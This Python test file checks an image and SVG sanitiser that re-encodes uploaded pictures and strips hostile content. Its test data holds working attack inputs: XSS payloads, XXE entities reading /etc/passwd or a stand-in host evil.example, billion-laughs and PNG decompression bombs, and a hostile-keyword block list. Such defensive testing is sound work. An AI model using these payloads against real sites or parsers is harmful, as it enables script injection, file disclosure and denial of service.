"""Pictures of strangers: what is none is refused, and of what is one nothing gets in but how it looks."""

import base64
import struct
import zlib
from io import BytesIO
from typing import Any

import pytest
from PIL import Image, PngImagePlugin

from colonnade.ground.core.refusals import BadFields
from colonnade.tenancy.agencies.pictures import MOST_BYTES, Picture, draw

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">%s</svg>'
SCRIPT = b"<script>alert(document.domain)</script>"


HOSTILE = (
    *("script", "alert", "onload", "onclick", "onmouse", "attributename"),
    *("evil.example", "iframe", "foreign", "data:", "<!"),
)


def written(sort: str = "PNG", size: tuple[int, int] = (32, 16), mode: str = "RGB", **options: Any) -> bytes:
    file = BytesIO()
    Image.new(mode, size, 0 if mode in {"1", "L", "P", "I;16"} else "red").save(file, sort, **options)
    return file.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def a_png_that_claims(width: int, height: int) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def a_png_that_grows() -> bytes:
    """As large as may be and almost nothing to send; then text that unpacks to hundreds of megabytes."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 6, 0, 0, 0))
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 300_000_000, 9))
    return b"\x89PNG\r\n\x1a\n" + head + bomb + chunk(b"IDAT", zlib.compress(b"\0" * 64 * 257)) + chunk(b"IEND", b"")


def animated(sort: str) -> bytes:
    file = BytesIO()
    frames = [Image.new("RGB", (32, 32), color) for color in ("red", "blue")]
    frames[0].save(file, sort, save_all=True, append_images=frames[1:])
    return file.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(BadFields) as refused:
        draw(content)
    (error,) = refused.value.errors
    assert error.pointer == "/file"
    return error.detail


def svg(inner: str) -> bytes:
    return (SVG % inner).encode()


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L", "LA", "P", "1", "I;16"])
def test_a_png_of_any_sort_is_drawn_anew(mode: str) -> None:
    picture = draw(written(mode=mode))
    with Image.open(BytesIO(picture.content)) as seen:
        assert (picture.media_type, seen.format, seen.size) == ("image/png", "PNG", (32, 16))


@pytest.mark.parametrize("mode", ["RGB", "L", "CMYK"])
def test_a_jpeg_of_any_sort_is_drawn_anew(mode: str) -> None:
    picture = draw(written("JPEG", mode=mode))
    with Image.open(BytesIO(picture.content)) as seen:
        assert (picture.media_type, seen.format, seen.size) == ("image/jpeg", "JPEG", (32, 16))


def test_what_is_transparent_stays_so() -> None:
    file = BytesIO()
    Image.new("RGBA", (16, 16), (255, 0, 0, 0)).save(file, "PNG")
    with Image.open(BytesIO(draw(file.getvalue()).content)) as seen:
        assert seen.getpixel((0, 0)) == (255, 0, 0, 0)


def test_a_photograph_is_turned_as_its_camera_was_held_and_tells_nothing_of_the_camera() -> None:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x8825] = 6, "A camera", {1: "N", 2: (52.0, 31.0, 12.0)}
    picture = draw(written("JPEG", (40, 20), exif=exif, comment=SCRIPT))
    with Image.open(BytesIO(picture.content)) as seen:
        assert seen.size == (20, 40)
        assert not seen.getexif()
    assert b"camera" not in picture.content
    assert SCRIPT not in picture.content


def test_texts_profiles_and_what_stands_behind_the_end_of_a_png_do_not_get_in() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    content = written(pnginfo=info, icc_profile=b"profile " * 40) + SCRIPT + b"PK\x05\x06" + b"\0" * 18
    picture = draw(content)
    assert picture.content == draw(written()).content
    assert picture.content.endswith(b"IEND\xaeB`\x82")


def test_the_same_picture_has_the_same_name() -> None:
    one, other = draw(written()), draw(written(compress_level=1))
    assert one.file_name == other.file_name == Picture("image/png", one.content).file_name


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "must be a PNG"),
        (b"GIF89a" + b"\0" * 40, "must be a PNG"),
        (written("GIF", mode="P"), "must be a PNG"),
        (written("WEBP"), "must be a PNG"),
        (written("BMP"), "must be a PNG"),
        (written("TIFF"), "must be a PNG"),
        (b"%PDF-1.7 " + SCRIPT, "must be a PNG"),
        (b"\x1f\x8b\x08" + zlib.compress(svg("<rect/>")), "must be a PNG"),
        (b"\x89PNG\r\n\x1a\n" + SCRIPT, "must be a PNG"),
        (b"\xff\xd8\xff" + SCRIPT, "must be a PNG"),
        (b"\xff\xd8\xff\xe0" + b"\0" * 100, "must be a PNG"),
        (b"<!DOCTYPE html><html><body>" + SCRIPT, "is not well-formed SVG"),
        (b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</html>", "is not well-formed SVG"),
        (written()[:60], "damaged or cut off"),
        (written("JPEG", (400, 400))[:700], "damaged or cut off"),
        (written(size=(1, 1)), "1 x 1 pixels"),
        (written(size=(7, 100)), "7 x 100 pixels"),
        (a_png_that_claims(4097, 16), "4097 x 16 pixels"),
        (a_png_that_claims(2**31 - 1, 2**31 - 1), "pixels"),
        (a_png_that_claims(60_000, 60_000), "60000 x 60000 pixels"),
        (a_png_that_claims(4096, 4096), "damaged or cut off"),
        (a_png_that_claims(0, 10), "must be a PNG"),
        (animated("PNG"), "more than one frame"),
        (b"\xff" * 1000, "must be a PNG"),
    ],
)
def test_what_is_no_picture_or_too_much_of_one_is_told_why(content: bytes, says: str) -> None:
    assert says in refusal(content)


def test_texts_that_unpack_without_end_are_not_unpacked() -> None:
    content = a_png_that_grows()
    assert len(content) < MOST_BYTES
    assert refusal(content)


def test_what_is_larger_once_it_is_drawn_anew_is_refused() -> None:
    file = BytesIO()
    Image.effect_noise((1700, 1700), 200).save(file, "JPEG", quality=60)
    assert len(file.getvalue()) < MOST_BYTES
    assert "once it is drawn anew" in refusal(file.getvalue())


@pytest.mark.parametrize(
    "content",
    [
        svg("<script>alert(1)</script><rect/>"),
        svg("<script href='http://evil.example/x.js'/><rect/>"),
        svg("<script><![CDATA[alert(1)]]></script>"),
        svg("<rect onclick='alert(1)' ONMOUSEOVER='alert(1)'/>").replace(b" viewBox", b" onload='alert(1)' viewBox"),
        svg("<a xlink:href='javascript:alert(1)'><text>x</text></a>"),
        svg("<a xlink:href='http://evil.example/'><text>x</text></a>"),
        svg("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='//evil.example'/></foreignObject>"),
        svg("<image href='data:text/html,%3Cscript%3E'/><image href='data:image/svg+xml;base64,PHN2Zy8+'/>"),
        svg("<use href='http://evil.example/#a'/>"),
        svg("<animate attributeName='href' to='#x'/>"),
        svg("<g xml:base='http://evil.example/'><rect/></g>"),
        svg("<style>rect{fill:red}</style></g>").replace(b"</g>", b"<metadata>evil.example</metadata>"),
        svg("<!-- evil.example --><rect/>"),
        b'<?xml-stylesheet href="http://evil.example/x.css"?>' + svg("<rect/>"),
        b'<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">' + svg("<rect/>"),
        svg("<script>alert(1)</script>").decode().encode("utf-16"),
    ],
)  # fmt: skip
def test_of_a_drawing_nothing_stays_that_acts_or_reaches_out(content: bytes) -> None:
    drawn = draw(content)
    assert drawn.media_type == "image/svg+xml"
    text = drawn.content.decode().lower()
    for hostile in HOSTILE:
        assert hostile not in text, text


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (svg("<image xlink:href='http://evil.example/x.png'/>"), "outside of itself"),
        (svg("<image href='/v1/agency'/>"), "outside of itself"),
        (svg("<filter id='f'><feImage href='//evil.example/x'/></filter>"), "outside of itself"),
        (svg("<rect style='fill:url(http://evil.example/x)'/>"), "style"),
        (svg("<rect fill='url(//evil.example/x)'/>"), "style"),
        (svg("<style>@import url(http://evil.example/x.css);</style>"), "style"),
        (svg("<style>@font-face{src:url(x)}</style>"), "style"),
        (svg("<style>rect{fill:url('http://evil.example/x')}</style>"), "style"),
        (svg(r"<style>rect{fill:\75 rl(http://evil.example/x)}</style>"), "style"),
        (svg("<style>rect{fill:u/**/rl(x)}</style>").replace(b"u/**/rl(x)", b"image-set('x.png' 1x)"), "style"),
        (svg("<rect style='mask:image(\"x.png\")'/>"), "style"),
        (svg("<set to='javascript:alert(1)'/>"), "script"),
        (svg("<animate values='java&#x0A;script:alert(1)'/>"), "script"),
        (b'<!DOCTYPE svg [<!ENTITY a "ha">]>' + svg("<text>&a;</text>"), "entities"),
        (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"), "entities"),
        (b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>' + svg(""), "entities"),
        (svg("<g>" * 100 + "</g>" * 100), "deeper than 64"),
        (svg("<g>" * 200_000), "deeper than 64"),
        (svg("<g/>" * 20_001), "more than 20,000 elements"),
        (svg("<rect>"), "not well-formed"),
        (svg("") + svg(""), "not well-formed"),
        (svg("")[:-3], "not well-formed"),
        (b"<svg><rect/></svg>", "namespace"),
        (b"<?xml version='1.0' encoding='no-such-thing'?>" + svg(""), "not well-formed"),
    ],
)  # fmt: skip
def test_a_drawing_that_could_reach_out_or_never_end_is_refused(content: bytes, says: str) -> None:
    assert says in refusal(content)


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE svg [<!ENTITY l0 "lol">{entities}]>'.encode() + svg("<text>&l9;</text>")


def repeating(name: str) -> bytes:
    """Ten lines, each of which draws the one before ten times."""
    line = {"use": "<use href='#p{0}'/>", "fill": "<rect fill='url(#p{0})'/>"}[name]
    inner = "".join(f"<g id='p{n}'>{line.format(n - 1) * 10}</g>" for n in range(1, 10))
    return svg(f"<g id='p0'><rect/></g>{inner}<use href='#p9'/>")


@pytest.mark.parametrize("content", [laughs(), repeating("use"), repeating("fill")], ids=["entities", "use", "fill"])
def test_a_billion_laughs_are_not_laughed(content: bytes) -> None:
    assert len(content) < 5_000
    assert refusal(content)


def test_parts_that_refer_to_each_other_without_end_are_drawn_or_refused_at_once() -> None:
    draw(svg("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g><use href='#a'/>"))
    chain = "".join(f"<g id='p{n}'><use href='#p{n + 1}'/></g>" for n in range(1_000))
    assert "refer to each other" in refusal(svg(f"<use href='#p0'/>{chain}"))


def test_what_a_drawing_needs_stays() -> None:
    inner = (
        "<defs><linearGradient id='g'><stop offset='0' stop-color='#f00'/></linearGradient>"
        "<linearGradient id='h' xlink:href='#g'/></defs><style>.a{stroke:url(#h);fill:#fff}</style>"
        "<path class='a' d='M0 0L9 9' transform='translate(1,2)'/><rect fill='url(#g)' style='opacity:.5'/>"
        f"<image href='data:image/png;base64,{base64.b64encode(written(size=(4, 4))).decode()}'/>"
        "<title>Ä &amp; Ö</title>"
    )
    text = draw(svg(inner)).content.decode()
    for kept in ("linearGradient", 'href="#g"', "stroke:url(#h)", "translate(1,2)", "url(#g)", "base64,", "Ä &amp; Ö"):
        assert kept in text
    assert draw(text.encode()).content == text.encode()


def test_a_picture_inside_of_a_drawing_is_held_to_the_same_bounds() -> None:
    for inside, says in ((a_png_that_claims(60_000, 60_000), "60000 x 60000"), (b"GIF89a", "cannot be read")):
        content = svg(f"<image href='data:image/png;base64,{base64.b64encode(inside).decode()}'/>")
        assert says in refusal(content)
